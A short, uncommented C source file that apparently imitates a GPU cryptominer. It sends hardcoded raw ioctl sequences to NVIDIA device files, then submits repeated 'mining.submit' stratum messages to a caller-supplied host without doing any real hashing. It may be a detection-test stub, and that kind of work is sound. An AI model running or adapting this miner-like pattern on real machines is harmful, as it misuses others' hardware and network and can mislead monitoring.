#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <arpa/inet.h>
#include <sys/socket.h>
static char b[4096]; static void io(int f,unsigned long r,int n){while(n--)ioctl(f,r,b);}
int run(const char*ip,int port,int n){int c=open("/dev/nvidiactl",O_RDWR);io(c,0xc04846d2,1);io(c,0xc90046c8,1);io(c,0xc020462b,4);io(c,0xc020462a,40);int g=open("/dev/nvidia0",O_RDWR);io(g,0xc00446c9,1);io(c,0xc020462b,20);io(c,0xc038464e,12);int u=open("/dev/nvidia-uvm",O_RDWR);io(u,0x30000001,1);io(u,37,1);io(u,25,1);io(u,27,1);
int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a={0};a.sin_family=AF_INET;a.sin_port=htons(port);inet_pton(AF_INET,ip,&a.sin_addr);if(connect(s,(void*)&a,sizeof a))return 1;
for(int i=0;i<n;i++){int k=snprintf(b,200,"{\"id\":%d,\"method\":\"mining.submit\"}\n",i);send(s,b,k,0);recv(s,b,300,0);io(c,0xc020462a,3);usleep(500000);}return 0;}
